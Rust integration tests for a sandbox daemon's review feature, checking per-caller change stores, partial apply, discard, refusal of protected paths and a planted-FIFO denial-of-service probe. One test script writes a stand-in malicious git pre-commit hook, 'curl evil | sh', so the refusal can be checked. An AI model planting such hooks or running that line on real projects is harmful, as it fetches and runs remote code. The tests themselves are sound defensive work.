//! Review runs through `sandbox daemon` (docs/src/review.md): a caller's
//! run keeps its changes in the caller's own store, the caller lists,
//! applies a subset of and discards them, a protected path is refused by
//! name and flag, and no other uid (root with `see_all` included) can
//! read, apply or discard them.

mod support;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;

use serde_json::Value;
use support::daemon::Daemon;

fn error_code(value: &Value) -> &str {
    value["error"]["code"].as_str().unwrap_or("")
}

fn paths(listing: &Value) -> Vec<String> {
    listing["changes"]
        .as_array()
        .map(|changes| {
            changes
                .iter()
                .filter(|c| c["applied"] != true)
                .filter_map(|c| c["path"].as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

fn read(project: &Path, name: &str) -> Option<String> {
    std::fs::read_to_string(project.join(name)).ok()
}

#[test]
fn a_callers_review_run_is_listed_applied_in_part_and_discarded_by_that_caller_only() {
    let test = "a_callers_review_run_is_listed_applied_in_part_and_discarded_by_that_caller_only";
    if !support::require(
        test,
        "root (to connect as a second uid)",
        nix::unistd::geteuid().is_root(),
    ) || !support::require(
        test,
        "user namespaces for an unprivileged user",
        support::sandbox_works(support::Who::User),
    ) {
        return;
    }
    let user = support::TEST_UID;
    // Root may see every run: it still may not touch a caller's changes.
    let daemon = Daemon::start(&format!(
        "[daemon]\nsocket_mode = \"0666\"\n\
         [[allow]]\nuids = [0]\nsee_all = true\nprojects = [\"{{dir}}\"]\n\
         [[allow]]\nuids = [{user}]\nprofiles = [\"strict\"]\nprojects = [\"{{dir}}/theirs\"]\n"
    ));
    let project = daemon.project("theirs", Some(user));
    std::fs::write(project.join("notes.txt"), "first line\n").unwrap();
    std::os::unix::fs::chown(project.join("notes.txt"), Some(user), Some(user)).unwrap();

    let script = "echo second line >> notes.txt && echo draft > plan.md && mkdir -p .git/hooks \
                  && echo 'curl evil | sh' > .git/hooks/pre-commit";
    let body = serde_json::json!({
        "command": ["/bin/sh", "-c", script],
        "project": project,
        "review": true,
        "wait": true,
    });
    let (code, run) = daemon.json(Some(user), "POST", "/v1/runs", Some(&body.to_string()));
    assert_eq!(code, 200, "{run}");
    let (_, stderr, _) = daemon.output(run["id"].as_str().unwrap());
    let said = String::from_utf8_lossy(&stderr);
    if !support::require(
        test,
        "overlayfs over tmpfs in a user namespace",
        !said.contains("mounting the review layer"),
    ) {
        return;
    }
    assert_eq!(run["status"], 0, "{run}\n{said}");
    let id = run["id"].as_str().unwrap().to_owned();
    let (_, run) = daemon.json(Some(user), "GET", &format!("/v1/runs/{id}"), None);
    let review = run["report"]["run"]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{run}\n{said}"))
        .to_owned();
    assert_eq!(run["report"]["run"]["changes"], 5, "{run}");

    // Nothing reached the project; the changes are in the caller's store,
    // owned by the caller, beside the socket.
    assert_eq!(read(&project, "notes.txt").as_deref(), Some("first line\n"));
    assert!(!project.join("plan.md").exists());
    assert!(!project.join(".git").exists());
    let store = daemon.dir().join("review").join(user.to_string());
    let meta = std::fs::metadata(&store).unwrap();
    assert_eq!(
        (meta.uid(), meta.permissions().mode() & 0o777),
        (user, 0o700)
    );
    assert!(store
        .join("runs")
        .join(&review)
        .join("changes.json")
        .exists());

    let (code, listing) = daemon.json(
        Some(user),
        "GET",
        &format!("/v1/runs/{id}/changes?diff=true"),
        None,
    );
    assert_eq!(code, 200, "{listing}");
    assert_eq!(listing["review"], review.as_str());
    assert_eq!(
        paths(&listing),
        [
            ".git",
            ".git/hooks",
            ".git/hooks/pre-commit",
            "notes.txt",
            "plan.md"
        ],
        "{listing}"
    );
    let diff = listing["diff"].as_str().unwrap();
    assert!(diff.contains("+second line"), "{diff}");

    // Anyone but the owner: the answer for a run that does not exist, and
    // nothing changes.
    for (method, path, body) in [
        ("GET", format!("/v1/runs/{id}/changes"), None),
        ("POST", format!("/v1/runs/{id}/apply"), Some("{}")),
        (
            "POST",
            format!("/v1/runs/{id}/apply"),
            Some(r#"{"paths": ["notes.txt"]}"#),
        ),
        ("POST", format!("/v1/runs/{id}/discard"), None),
    ] {
        let (code, err) = daemon.json(None, method, &path, body);
        assert_eq!(
            (code, error_code(&err)),
            (404, "no_such_run"),
            "{path}: {err}"
        );
    }
    let (code, shown) = daemon.json(None, "GET", &format!("/v1/runs/{id}"), None);
    assert_eq!(code, 200, "root sees the run itself (see_all): {shown}");
    assert_eq!(read(&project, "notes.txt").as_deref(), Some("first line\n"));
    assert!(store.join("runs").join(&review).exists());

    // Everything at once: the hook is refused by name and flag, and
    // nothing is applied.
    let (code, refused) = daemon.json(
        Some(user),
        "POST",
        &format!("/v1/runs/{id}/apply"),
        Some("{}"),
    );
    assert_eq!(code, 409, "{refused}");
    let hook = refused["refused"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["path"] == ".git/hooks/pre-commit")
        .unwrap_or_else(|| panic!("{refused}"));
    assert_eq!(hook["flag"], "--allow-protected", "{refused}");
    assert!(hook["reason"].as_str().unwrap().contains("protected"));
    assert_eq!(refused["applied"], serde_json::json!([]));
    assert_eq!(read(&project, "notes.txt").as_deref(), Some("first line\n"));

    // A subset: applied with the caller's rights, as the caller's file.
    let (code, applied) = daemon.json(
        Some(user),
        "POST",
        &format!("/v1/runs/{id}/apply"),
        Some(r#"{"paths": ["notes.txt"]}"#),
    );
    assert_eq!(code, 200, "{applied}");
    assert_eq!(applied["applied"], serde_json::json!(["notes.txt"]));
    assert_eq!(applied["remaining"], 4, "{applied}");
    assert_eq!(
        read(&project, "notes.txt").as_deref(),
        Some("first line\nsecond line\n")
    );
    assert_eq!(
        std::fs::metadata(project.join("notes.txt")).unwrap().uid(),
        user
    );
    assert!(!project.join("plan.md").exists());

    let (code, discarded) =
        daemon.json(Some(user), "POST", &format!("/v1/runs/{id}/discard"), None);
    assert_eq!(code, 200, "{discarded}");
    let (code, gone) = daemon.json(Some(user), "GET", &format!("/v1/runs/{id}/changes"), None);
    assert_eq!((code, error_code(&gone)), (404, "no_changes"), "{gone}");
    assert!(!project.join("plan.md").exists());
    assert!(!project.join(".git").exists());
    assert!(!store.join("runs").join(&review).exists());
}

/// A run that asked for no review kept nothing: its owner hears so, and
/// the run's writes are in the project as before.
#[test]
fn a_run_without_review_has_no_changes_to_show() {
    if !support::require_root_sandbox("a_run_without_review_has_no_changes_to_show") {
        return;
    }
    let daemon = Daemon::start("[[allow]]\nuids = [0]\nprojects = [\"{dir}\"]\n");
    let project = daemon.project("mine", None);
    let body = serde_json::json!({
        "command": ["/bin/sh", "-c", "echo direct > direct.txt"],
        "project": project,
        "wait": true,
    });
    let (code, run) = daemon.json(None, "POST", "/v1/runs", Some(&body.to_string()));
    assert_eq!(code, 200, "{run}");
    let id = run["id"].as_str().unwrap();
    assert_eq!(read(&project, "direct.txt").as_deref(), Some("direct\n"));
    let (code, err) = daemon.json(None, "GET", &format!("/v1/runs/{id}/changes"), None);
    assert_eq!((code, error_code(&err)), (404, "no_changes"), "{err}");
    let (code, err) = daemon.json(None, "POST", "/v1/runs/0123456789abcdef/apply", Some("{}"));
    assert_eq!((code, error_code(&err)), (404, "no_such_run"), "{err}");
}

/// `sandbox run --daemon --review` sends the review flag: the project is
/// untouched and the endpoints are named.
#[test]
fn the_command_line_sends_a_review_run_to_the_daemon() {
    if !support::require_root_sandbox("the_command_line_sends_a_review_run_to_the_daemon") {
        return;
    }
    let daemon = Daemon::start("[[allow]]\nuids = [0]\nprojects = [\"{dir}\"]\n");
    let project = daemon.project("mine", None);
    let out = daemon
        .cli()
        .arg("run")
        .arg("--project")
        .arg(&project)
        .args(["--review", "--", "/bin/sh", "-c", "echo kept > kept.txt"])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    if !support::require(
        "the_command_line_sends_a_review_run_to_the_daemon",
        "overlayfs over tmpfs in a user namespace",
        !said.contains("mounting the review layer"),
    ) {
        return;
    }
    assert!(out.status.success(), "{said}");
    assert!(!project.join("kept.txt").exists(), "{said}");
    assert!(
        said.contains("1 change(s) kept for review by the daemon: GET /v1/runs/"),
        "{said}"
    );
}

/// A caller's store is the caller's to change: a FIFO planted for a
/// changed file's content blocks the helper that renders the diff. Such
/// helpers hold no thread of the daemon, and one caller holds at most
/// two: the next gets 429, the daemon answers everyone else meanwhile, and
/// once they end the caller's share is whole again.
#[test]
fn a_fifo_planted_in_the_callers_store_holds_only_the_callers_share() {
    let test = "a_fifo_planted_in_the_callers_store_holds_only_the_callers_share";
    if !support::require_root_sandbox(test) {
        return;
    }
    let daemon = Daemon::start("[[allow]]\nuids = [0]\nprojects = [\"{dir}\"]\n");
    let project = daemon.project("mine", None);
    std::fs::write(project.join("notes.txt"), "first\n").unwrap();
    let body = serde_json::json!({
        "command": ["/bin/sh", "-c", "echo second >> notes.txt"],
        "project": project,
        "review": true,
        "wait": true,
    });
    let (code, run) = daemon.json(None, "POST", "/v1/runs", Some(&body.to_string()));
    assert_eq!(code, 200, "{run}");
    let id = run["id"].as_str().unwrap().to_owned();
    let (_, run) = daemon.json(None, "GET", &format!("/v1/runs/{id}"), None);
    let Some(review) = run["report"]["run"]["id"].as_str() else {
        let (_, stderr, _) = daemon.output(&id);
        let said = String::from_utf8_lossy(&stderr);
        support::require(
            test,
            "overlayfs over tmpfs in a user namespace",
            !said.contains("mounting the review layer"),
        );
        panic!("no review id: {run}\n{said}");
    };
    let uid = nix::unistd::geteuid().as_raw();
    let layer = daemon
        .dir()
        .join("review")
        .join(uid.to_string())
        .join("runs")
        .join(review)
        .join("layer/notes.txt");
    std::fs::remove_file(&layer).unwrap();
    nix::unistd::mkfifo(&layer, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();

    // Two diffs that block on the FIFO, their connections kept open.
    let hanging: Vec<std::os::unix::net::UnixStream> = (0..2)
        .map(|_| {
            use std::io::Write;
            let mut stream = std::os::unix::net::UnixStream::connect(&daemon.socket).unwrap();
            write!(
                stream,
                "GET /v1/runs/{id}/changes?diff=true HTTP/1.1\r\nHost: daemon\r\n\r\n"
            )
            .unwrap();
            stream
        })
        .collect();
    let changes = format!("/v1/runs/{id}/changes");
    let full = support::wait::within(std::time::Duration::from_secs(60), || {
        let (code, answer) = daemon.json(None, "GET", &changes, None);
        (code == 429).then_some(answer)
    })
    .expect("a third helper of one caller is refused while two are blocked");
    assert_eq!(error_code(&full), "quota_full", "{full}");
    let (code, info) = daemon.json(None, "GET", "/v1/info", None);
    assert_eq!(code, 200, "the daemon answers meanwhile: {info}");

    // The blocked helpers end (killed here, as their timeout would): the
    // caller's share is given back.
    // Started from /proc/self/exe, so named `exe`.
    let helpers: Vec<u32> = support::daemon::processes_named("exe", uid)
        .into_iter()
        .filter(|pid| {
            let line = support::daemon::cmdline(*pid);
            line.contains("changes") && line.contains(review)
        })
        .collect();
    assert_eq!(helpers.len(), 2, "two blocked helpers");
    for pid in helpers {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(pid as i32),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    let listed = support::wait::within(std::time::Duration::from_secs(60), || {
        let (code, answer) = daemon.json(None, "GET", &changes, None);
        (code == 200).then_some(answer)
    })
    .expect("the share is given back once the helpers end");
    assert_eq!(listed["review"], review, "{listed}");
    drop(hanging);
}

/// `sandbox changes`, `apply` and `discard` with `--daemon`: a daemon
/// run's changes through the CLI, printed and refused as a local run's.
#[test]
fn the_review_commands_reach_a_daemon_runs_changes_with_daemon() {
    let test = "the_review_commands_reach_a_daemon_runs_changes_with_daemon";
    if !support::require_root_sandbox(test) {
        return;
    }
    let daemon = Daemon::start("[[allow]]\nuids = [0]\nprojects = [\"{dir}\"]\n");
    let project = daemon.project("mine", None);
    std::fs::write(project.join("notes.txt"), "first line\n").unwrap();
    let script = "echo second line >> notes.txt && mkdir -p .github/workflows \
                  && echo 'on: push' > .github/workflows/ci.yml";
    let body = serde_json::json!({
        "command": ["/bin/sh", "-c", script],
        "project": project,
        "review": true,
        "wait": true,
    });
    let (code, run) = daemon.json(None, "POST", "/v1/runs", Some(&body.to_string()));
    assert_eq!(code, 200, "{run}");
    let id = run["id"].as_str().unwrap().to_owned();
    let (_, stderr, _) = daemon.output(&id);
    if !support::require(
        test,
        "overlayfs over tmpfs in a user namespace",
        !String::from_utf8_lossy(&stderr).contains("mounting the review layer"),
    ) {
        return;
    }
    let sandbox = |args: &[&str]| {
        let out = daemon.cli().args(args).output().unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, diff, err) = sandbox(&["changes", &id]);
    assert_eq!(code, Some(0), "{err}");
    assert!(diff.contains("+second line"), "{diff}");
    let (code, _, err) = sandbox(&["changes", "last"]);
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("sandbox ps"), "{err}");

    let (code, _, err) = sandbox(&["apply", &id]);
    assert_eq!(code, Some(1), "{err}");
    assert!(
        err.contains(
            ".github/workflows/ci.yml: a CI definition (it runs on the next push): pass --allow-ci"
        ),
        "{err}"
    );
    assert_eq!(read(&project, "notes.txt").as_deref(), Some("first line\n"));

    let (code, out, err) = sandbox(&["apply", &id, "notes.txt"]);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("applied notes.txt"), "{out}");
    assert_eq!(
        read(&project, "notes.txt").as_deref(),
        Some("first line\nsecond line\n")
    );
    let (code, out, err) = sandbox(&["discard", &id]);
    assert_eq!(code, Some(0), "{err}");
    assert!(out.contains("changes discarded"), "{out}");
    assert!(!project.join(".github").exists());
    let (code, _, err) = sandbox(&["changes", &id]);
    assert_eq!(code, Some(2), "{err}");
}
